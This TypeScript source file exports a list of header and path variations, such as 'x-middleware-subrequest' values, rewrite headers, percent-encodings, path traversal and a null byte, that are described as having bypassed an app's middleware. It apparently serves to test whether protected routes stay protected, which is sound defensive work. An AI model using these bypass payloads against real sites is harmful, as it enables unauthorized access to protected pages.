/** Another way to request the same page. */
export type Trick = { path?: (path: string) => string; headers?: Record<string, string> }

/** Headers and spellings of a path that have bypassed the middleware of some app. The first is a plain request. */
export const tricks: readonly Trick[] = [
  {},
  {
    headers: {
      'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware',
    },
  },
  { headers: { 'x-middleware-subrequest': 'src/middleware' } },
  { headers: { 'x-middleware-rewrite': '/' } },
  { headers: { 'x-middleware-next': '1' } },
  { headers: { 'x-nextjs-data': '1' } },
  { headers: { 'next-router-prefetch': '1', rsc: '1' } },
  { headers: { 'next-router-segment-prefetch': '/_tree', 'next-router-prefetch': '1', rsc: '1' } },
  { headers: { rsc: '1' } },
  { headers: { 'x-original-url': '/plans', 'x-rewrite-url': '/plans' } },
  { headers: { 'x-forwarded-host': 'localhost', 'x-invoke-path': '/plans' } },
  { headers: { 'x-path': '/plans', 'x-matched-path': '/plans' } },
  { path: (path) => `${path}/` },
  { path: (path) => `/${path}` },
  { path: (path) => path.toUpperCase() },
  { path: (path) => path.replace('a', '%61') },
  {
    path: (path) => path.replace(/\/(.)/, (_, letter) => `/%${letter.charCodeAt(0).toString(16)}`),
  },
  { path: (path) => path.replace('a', '%2561') },
  { path: (path) => path.replace(/(.)\//, '$1//') },
  { path: (path) => path.replace(/(.)\//, '$1%2f') },
  { path: (path) => `${path}.rsc` },
  { path: (path) => `${path}.json` },
  { path: (path) => `${path}.segments/_tree.segment.rsc` },
  { path: (path) => `/_next/data/x${path}.json` },
  { path: (path) => `${path}?_rsc=1` },
  { path: (path) => `${path}?nextInternalLocale=en&nxtPfeature=api-access` },
  { path: (path) => `/plans/..${path}` },
  { path: (path) => `/plans/%2e%2e${path}` },
  { path: (path) => `${path};x` },
  { path: (path) => `${path}%00` },
]
